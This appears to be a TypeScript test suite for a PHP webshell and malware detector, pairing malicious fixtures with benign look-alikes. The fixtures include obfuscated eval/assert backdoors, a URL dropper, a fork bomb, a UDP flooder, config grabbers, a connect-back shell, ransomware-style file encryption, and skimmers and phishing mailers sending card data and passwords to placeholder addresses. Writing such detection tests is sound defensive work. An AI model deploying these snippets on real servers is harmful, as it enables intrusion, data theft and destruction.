/**
 * PHP mechanisms that hide the function that runs or where code comes from. Every fixture
 * is written for this test and is inert text; each positive has a negative shaped like
 * ordinary application code.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

const mal = (name: string, code: string): string[] => {
  const f = findingOf(name, code);
  assert.equal(f?.verdict, 'malicious', `${name}: ${reasons(f).join('; ')}`);
  return reasons(f);
};

test('php: superglobal reached by a folded name, comments between $ and {', () => {
  assert.ok(mal('a.php', `<?php @eval($/*x*/{"_P"."OS"."T"}['k']);`).includes('request input reaches eval()'));
  assert.ok(mal('b.php', `<?php $g = '_GE'; assert(\${$g . 'T'}['k']);`).includes('request input reaches assert()'));
  // a variable variable over ordinary names is not request input
  assert.equal(findingOf('c.php', `<?php $n = 'title'; echo htmlspecialchars(\${$n});`), undefined);
});

test('php: a request-derived variable called as a function, one copy away', () => {
  assert.ok(mal('d.php', `<?php $r = $_COOKIE; $f = $r['x']; $f($r['y']);`).includes('request-derived variable is called as a function'));
  // a handler picked from a fixed table by request key is not the same thing
  const ok = findingOf('e.php', `<?php $handlers = array('a' => 'show_a'); $h = isset($handlers[$_GET['p']]) ? $handlers[$_GET['p']] : 'show_home'; echo strlen($h);`);
  assert.ok(!reasons(ok).includes('request-derived variable is called as a function'));
});

test('php: a request value included bare is file inclusion; with a fixed suffix it is not strong', () => {
  assert.ok(mal('f.php', `<?php $p = $_GET['f'];\nrequire_once($p);\n`).includes('request-derived variable is included as code (file inclusion backdoor)'));
  const g = findingOf('g.php', `<?php $lang = basename($_GET['lang']);\ninclude 'lang/' . $lang . '.php';\n`);
  assert.notEqual(g?.verdict, 'malicious');
});

test('php: callback names folded from explode()/substr()/implode() pieces', () => {
  assert.ok(
    mal('h.php', `<?php $c = explode("|", "x|as|y|se|rt"); array_intersect_ukey(array($_REQUEST['k'] => 1), array(1), $c[1].$c[3].$c[4]);`).includes(
      'array_intersect_ukey() calls assert as a callback',
    ),
  );
  assert.ok(mal('i.php', `<?php register_shutdown_function(implode('', array('as', 'sert')), $_POST['k']);`).includes('register_shutdown_function() calls assert as a callback'));
  // pieces that fold to a harmless name
  assert.equal(findingOf('j.php', `<?php $c = explode(",", "a,trim,b"); $v = array_map($c[1], array($_GET['q'])); echo count($v);`), undefined);
});

test('php: request arguments spread into a callback taker', () => {
  assert.ok(mal('k.php', `<?php usort(...$_GET);`).includes('request input spread into the arguments of usort() chooses its callback'));
  assert.equal(findingOf('l.php', `<?php $a = array(3, 1); usort($a, 'strcmp'); print_r($a);`), undefined);
});

test('php: code read from doc comments or image metadata and run', () => {
  const doc = `<?php\n/**\n * as\n * sert\n */\nclass K {}\n$r = new ReflectionClass('K');\n$d = $r->getDocComment();\n$f = substr($d, 8, 2) . substr($d, 14, 4);\n$f($_POST['z']);\n`;
  assert.ok(mal('m.php', doc).includes('code read from its own doc comments (Reflection) is run'));
  assert.ok(mal('n.php', `<?php $x = exif_read_data('./a.jpg'); preg_replace($x['Make'], $x['Model'], '');`).includes('code read from image metadata (EXIF) is run'));
  // documentation tools read doc comments and print them
  assert.equal(findingOf('o.php', `<?php $r = new ReflectionClass('Foo'); echo nl2br(htmlspecialchars($r->getDocComment()));`), undefined);
});

test('php: callbacks registered through methods (SQLite functions, ArrayObject sorts)', () => {
  assert.ok(
    mal('p.php', `<?php $e = $_REQUEST['e']; $db = new SQLite3('x.db'); $db->createFunction('f', $e); $db->query("SELECT f('a')");`).includes(
      'createFunction() registers a callback named by the request',
    ),
  );
  assert.ok(mal('q.php', `<?php $a = new ArrayObject(array($_REQUEST['p'] => 1, 'x' => 2)); $a->uksort('assert');`).includes('uksort() registers assert as a callback'));
  assert.equal(
    findingOf('r.php', `<?php $db = new SQLite3('x.db'); $db->createFunction('lower_utf8', 'mb_strtolower'); $s = $db->prepare('SELECT 1'); $s->bindValue(1, $_GET['q']);`),
    undefined,
  );
});

test('php: eval of a literal that hides a command call', () => {
  const f = findingOf('s.php', `<?php eval("function q() { echo system('whoami'); }"); q();`);
  assert.ok(reasons(f).includes('eval() of a string literal that calls system()'));
  assert.equal(findingOf('t.php', `<?php eval('$x = 1 + 2;'); echo $x;`)?.verdict === 'malicious', false);
});

test('php: request content written to a file that is then included', () => {
  assert.ok(
    mal('u.php', `<?php if (isset($_GET['c'])) { file_put_contents('cache.txt', $_GET['c']); require 'cache.txt'; }`).includes(
      'request content written to a file that is then included as code',
    ),
  );
  // a cache written from fixed data and included
  assert.equal(
    findingOf('v.php', `<?php $n = (int)$_GET['n']; file_put_contents('cfg.php', '<?php return ' . var_export(array('a' => 1), true) . ';'); $c = require 'cfg.php';`)?.verdict ===
      'malicious',
    false,
  );
});

test('php: droppers, fork bombs, flooders, symlink and config grabbers, writable-folder scanners', () => {
  assert.ok(reasons(findingOf('w.php', `<?php copy("http://example.invalid/s.txt", "s.php");`)).includes('copies a script from a URL into a PHP file (dropper)'));
  assert.ok(reasons(findingOf('w2.php', `<?php move_uploaded_file($f, "up.php");`)).includes('stores an uploaded file as a PHP script'));
  assert.ok(reasons(findingOf('x.php', `<?php while (1) pcntl_fork();`)).includes('forks in an endless loop (fork bomb)'));
  const flood = `<?php $h = $_GET['h']; $end = time() + 60;\nwhile (time() < $end) { $s = fsockopen('udp://' . $h, 53); fwrite($s, str_repeat('X', 1024)); fclose($s); }\n`;
  assert.ok(reasons(findingOf('y.php', flood)).includes('opens sockets and sends data in an endless loop (UDP flooder)'));
  // a client that talks and listens is not a flooder
  assert.ok(
    !reasons(findingOf('y2.php', `<?php while (true) { $s = fsockopen('mail.example.invalid', 25); fwrite($s, "NOOP\\r\\n"); echo fgets($s); fclose($s); sleep(60); }`)).some((r) =>
      r.includes('flooder'),
    ),
  );
  assert.ok(reasons(findingOf('z.php', `<?php symlink("/", "root.txt");`)).includes("links the server's root folder into the web folder (symlink attack)"));
  const grab = `<?php foreach (file('/etc/passwd') as $l) { $u = explode(':', $l)[0]; foreach (array('wp-config.php', 'configuration.php') as $c) symlink('/home/' . $u . '/public_html/' . $c, $u . '.txt'); }`;
  assert.ok(reasons(findingOf('g2.php', grab)).includes("reads other users' CMS configuration files from their home folders (config grabber)"));
  const scan = `<?php function walk($d) { foreach (scandir($d) as $f) { if ($f[0] == '.') continue; if (is_dir("$d/$f")) { if (is_writable("$d/$f")) echo "$d/$f\\n"; walk("$d/$f"); } } }\nwalk($_GET['d']);\n`;
  assert.ok(reasons(findingOf('sc.php', scan)).includes('walks the file system from a request-chosen folder listing writable directories'));
  // an installer checking its own folders
  assert.equal(findingOf('inst.php', `<?php foreach (array('cache', 'uploads') as $d) echo $d, is_writable(__DIR__ . "/$d") ? ' ok' : ' not writable';`), undefined);
});

test('php: non-alphanumeric code and rogue administrator accounts', () => {
  const na = `<?php\n$_=[]; $__=@"$_"; $___=$__[++$_[[]]]; $_=$___^$__[$_[[]]+$_[[]]]; $____=($_.$___)^($__[$_[[]]]); $_____=$____.$___.$_.$_;\n$__________ = $_____ . $___ ^ $____ . $__;\n$___ = $__ . $_; $____ = $___ ^ $_____;\n$_[$___]($_[$____]);\n`;
  assert.ok(reasons(findingOf('na.php', na)).includes('code written almost without letters or digits, calling a computed name'));
  const wp = `<?php function t() { if (!username_exists($_GET['u'])) { $id = wp_create_user($_GET['u'], $_GET['p']); $u = new WP_User($id); $u->set_role('administrator'); } } add_action('init', 't');`;
  assert.ok(reasons(findingOf('wp.php', wp)).includes('creates an administrator account from request parameters without any permission check'));
  const legit = `<?php if (current_user_can('create_users') && wp_verify_nonce($_POST['n'], 'add')) { $id = wp_create_user($_POST['u'], $_POST['p']); (new WP_User($id))->set_role('administrator'); }`;
  assert.ok(!reasons(findingOf('wp2.php', legit)).some((r) => r.includes('administrator account')));
});

test('php: regex modifiers folded from the end of a concatenated pattern', () => {
  const code = `<?php $t = md5($_POST['a']); if ($t == 'x') preg_replace(chr(47) . $t . chr(47) . chr(101), $_POST['b'], $t);`;
  assert.ok(mal('pe.php', code).includes('regex replace with the /e modifier evaluates its replacement as PHP'));
  assert.equal(findingOf('pe2.php', `<?php $w = preg_quote($_GET['w'], '/'); echo preg_replace('/' . $w . '/i', '<b>$0</b>', 'text');`), undefined);
});

test('php: `new $class()` instantiates a class, it does not call a request-named function', () => {
  const code = `<?php $cls = apply_filters('walker', 'Walker_Default', $_POST['menu']);\nif (!class_exists($cls)) exit;\n$w = new $cls();\necho $w->render();\n`;
  assert.ok(!reasons(findingOf('new.php', code)).includes('request-derived variable is called as a function'));
  assert.ok(mal('call.php', `<?php $cls = $_POST['f'];\n$cls($_POST['a']);\n`).includes('request-derived variable is called as a function'));
});

test('php: stream-wrapper reads past safe_mode, connect-back commands, goto-scrambled code', () => {
  const wrap = `<?php $f = $_GET['file']; $t = tempnam('/tmp', 'x'); if (copy("compress.zlib://" . $f, $t)) readfile($t);`;
  assert.ok(reasons(findingOf('sm.php', wrap)).includes('reads a request-chosen file through a stream wrapper (safe_mode / open_basedir bypass)'));
  // a fixed compressed file read through the same wrapper
  assert.equal(findingOf('gz.php', `<?php $d = file_get_contents('compress.zlib://' . __DIR__ . '/data.gz'); echo strlen($d);`), undefined);
  const back = `<?php system('./helper ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);`;
  assert.ok(reasons(findingOf('cb.php', back)).includes("connects a shell back to the requesting client's address and port"));
  const labels = ['aB1cd', 'Qx9Lm', 'z8PqR', 'Tt4uV', 'mN0oP', 'K2jhG', 'pL7mN', 'wX3yZ', 'Hh5Jk'];
  const scrambled = '<?php goto aB1cd; ' + labels.map((l, i) => `${l}: echo ${i}; goto ${labels[i + 1] ?? 'end9X'};`).join(' ') + ' end9X: echo "done";';
  assert.ok(reasons(findingOf('goto.php', scrambled)).some((r) => r.startsWith('control flow scrambled with')));
  // a hand-written state machine with readable labels
  const fsm = '<?php ' + Array.from({ length: 9 }, (_, i) => `state_${i}: if (rand(0, 1)) goto state_${(i + 1) % 9};`).join(' ');
  assert.ok(!reasons(findingOf('fsm.php', fsm)).some((r) => r.startsWith('control flow scrambled')));
});

test('php: include with a fixed folder and extension around a request-derived part stays weak', () => {
  const code = `<?php $l = $_GET['lang'];\n$lang = substr(strtolower($l), 0, 2);\ninclude_once("l10n_$lang.php");\n`;
  assert.equal(findingOf('l10n.php', code), undefined);
});

test('php: database dumpers, skimmers, phishing mailers', () => {
  const dump = `<?php $l = mysql_connect('localhost', 'u', 'p'); mysql_select_db('d');\n$out = '';\n$q = mysql_query('SHOW TABLES');\nwhile ($t = mysql_fetch_array($q)) { $r = mysql_query("SELECT * FROM \`$t[0]\`"); while ($row = mysql_fetch_row($r)) $out .= implode(',', $row) . "\\n"; }\nfile_put_contents(date('Ymd') . '.sql', $out);\n`;
  assert.ok(reasons(findingOf('dump.php', dump)).some((r) => r.includes('(database dumper)')));
  // the same listing inside an application with a session is its own backup screen
  assert.ok(!reasons(findingOf('backup.php', '<?php session_start(); if (empty($_SESSION["admin"])) exit;\n' + dump.slice(6))).some((r) => r.includes('(database dumper)')));
  const skim = `<?php if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) file_put_contents('media/img/p.jpg', base64_encode(serialize($_REQUEST)) . "\\n", FILE_APPEND);`;
  assert.ok(reasons(findingOf('skim.php', skim)).includes('records whole request data into a file posing as an image or asset (skimmer)'));
  assert.equal(findingOf('log.php', `<?php file_put_contents('debug.log', print_r($_GET, true), FILE_APPEND);`), undefined);
  const phish = `<?php $m = "User: " . $_POST['u'] . "\\n";\n$m .= "Password: " . $_POST['p'] . "\\n";\n$m .= "Card Number: " . $_POST['c'] . "\\n";\nmail('drop@example.invalid', 'new', $m);\n`;
  assert.ok(reasons(findingOf('ph.php', phish)).includes('mails posted passwords or card details to a fixed address (phishing kit)'));
  const contact = `<?php $m = "Name: " . $_POST['name'] . "\\nMessage: " . $_POST['msg'];\nmail('info@example.invalid', 'Contact', $m);\n`;
  assert.ok(!reasons(findingOf('contact.php', contact)).some((r) => r.includes('phishing')));
});

test('php: .htaccess hijack, in-place file encryption, SEO cloaking, curl file: reads', () => {
  const ht = `<?php file_put_contents('.htaccess', "DirectoryIndex x.php\\nErrorDocument 404 /x.php\\n");`;
  assert.ok(reasons(findingOf('ht.php', ht)).includes('.htaccess rewritten to send pages to a script or run other file types as PHP'));
  assert.equal(findingOf('ht2.php', `<?php file_put_contents(__DIR__ . '/uploads/.htaccess', "Deny from all\\n");`), undefined);
  const ransom = `<?php function walk($d, $k) { foreach (scandir($d) as $f) { if ($f[0] == '.') continue; $p = "$d/$f"; if (is_dir($p)) { walk($p, $k); continue; } $data = file_get_contents($p); $enc = base64_encode(openssl_encrypt($data, 'aes-256-cbc', $k, 0, str_repeat('0', 16))); file_put_contents($p, $enc); } }\nwalk('.', 'k');\n`;
  assert.ok(reasons(findingOf('rw.php', ransom)).includes('rewrites files in place with encrypted copies while walking folders (ransomware)'));
  const seo = `<?php function bot() { return stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false; }\nif (bot()) { echo file_get_contents('http://spam.example.invalid/p.php?h=' . $_SERVER['HTTP_HOST']); exit; }\n`;
  assert.ok(reasons(findingOf('seo.php', seo)).includes('shows search-engine crawlers pages fetched from a remote server (SEO cloaking / doorway)'));
  const curl = `<?php $f = $_POST['file']; $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, "file:file:///" . $f); curl_exec($ch);`;
  assert.ok(reasons(findingOf('cf.php', curl)).includes("reads a request-chosen local file through curl's file: scheme (safe_mode / open_basedir bypass)"));
});

test('php: names folded from pieces appended to a variable that starts undefined', () => {
  const code = `<?php\n$r = $r . substr("xxxxstr_re", 4, 6);\n$r = $r . ltrim("place");\n$a = $a . $r("Q", "", "asQsQert");\n$a($_POST['z']);\n`;
  assert.ok(mal('app.php', code).includes('a variable holding a dangerous function name is called'));
});

test('php: card data mailed out next to a payment method', () => {
  const skim = `<?php class Pay { function capture($info) { $n = $info->getCcNumber(); $c = $info->getCcCid(); mail('x@example.invalid', 'cc', $n . '|' . $c); } }`;
  assert.ok(reasons(findingOf('pay.php', skim)).includes('mails the card number together with its security code (card skimmer)'));
  // both read, but the mail carries neither value (the flow decides, not the words in the file)
  const notice = `<?php class Pay { function capture($info) { $n = $info->getCcNumber(); $c = $info->getCcCid(); $this->gw->charge($n, $c); mail('x@example.invalid', 'cc', 'order paid'); } }`;
  assert.ok(reasons(findingOf('pay2.php', notice)).includes('mails payment card numbers and security codes (card skimmer)'));
  const gateway = `<?php class Pay { function capture($info) { $ch = curl_init('https://gateway.example.invalid'); curl_setopt($ch, CURLOPT_POSTFIELDS, array('n' => $info->getCcNumber(), 'c' => $info->getCcCid())); return curl_exec($ch); } }`;
  assert.ok(!reasons(findingOf('gw.php', gateway)).some((r) => r.includes('card skimmer')));
});

test('php: a call whose result is called in place names the function without a variable', () => {
  assert.ok(
    mal('cc1.php', `<?php $q = $_GET[1];\nfile_get_contents("php" . $q)($_GET[2]);\n`).includes(
      'request input meets a function whose name file_get_contents() computes and calls in place',
    ),
  );
  assert.ok(
    reasons(findingOf('cc2.php', `<?php base64_decode('YXNzZXJ0')($_POST['x']);`)).includes(
      'request input meets a function whose name base64_decode() computes and calls in place',
    ),
  );
  // a closure returned by a method and called is ordinary modern PHP
  assert.equal(findingOf('cc3.php', `<?php $v = $this->resolver()($name); echo trim($v);`), undefined);
});

test('php 8: named arguments name the callback; first-class callable syntax keeps the sink', () => {
  assert.ok(mal('na.php', `<?php array_map(callback: 'assert', array: [$_POST['x']]);`).includes('array_map() calls assert as a callback'));
  assert.equal(findingOf('nb.php', `<?php $out = array_map(callback: 'trim', array: $_POST['list']); echo count($out);`), undefined);
  assert.ok(mal('nc.php', `<?php $f = system(...); $f($_GET['c']);`).includes('tiny script hands request input to a function whose name it computes at runtime (one-line loader)'));
});

test('php: filter_input() and framework request objects are request input', () => {
  assert.ok(mal('fi.php', `<?php system(filter_input(INPUT_GET, 'c'));`).includes('request input reaches system()'));
  const route = `<?php\nuse Illuminate\\Http\\Request;\nRoute::post('/_health', function (Request $r) {\n    return shell_exec($r->input('c'));\n});\n`;
  assert.ok(mal('route.php', route).includes('request input reaches shell_exec()'));
  const controller = `<?php\nclass DebugController {\n  public function run(Request $request) { return new Response(passthru($request->query->get('cmd'))); }\n}\n`;
  assert.ok(mal('ctl.php', controller).includes('request input reaches passthru()'));
  // the same objects feeding a query builder and a view are an ordinary controller
  const app = `<?php\nclass PostController {\n  public function show(Request $request) { $p = Post::where('slug', $request->input('slug'))->firstOrFail(); return view('post', ['p' => $p]); }\n}\n`;
  assert.equal(findingOf('post.php', app), undefined);
});

test('php: an inline callback that calls the request data it is handed', () => {
  assert.ok(
    mal('cw.php', `<?php $x = $_POST; array_walk($x, function (&$v, $k) { $k($v); });`).includes('request data handed to a callback of array_walk() that calls it as a function'),
  );
  assert.equal(findingOf('cx.php', `<?php $x = $_POST; array_walk($x, function (&$v, $k) { $v = trim($v); }); echo count($x);`), undefined);
});

test('php: request data parked in an object property and run from a (magic) method', () => {
  assert.ok(
    mal('pd.php', `<?php\nclass Sess { function __destruct() { @eval($this->d); } }\n$o = new Sess(); $o->d = $_POST['d'];\n`).includes(
      'request input reaches eval() through an object property',
    ),
  );
  // a property holding a request value that is only displayed
  assert.equal(
    findingOf('pe.php', `<?php\nclass View { function __toString() { return htmlspecialchars($this->title); } }\n$v = new View(); $v->title = $_GET['t']; echo $v;\n`),
    undefined,
  );
});
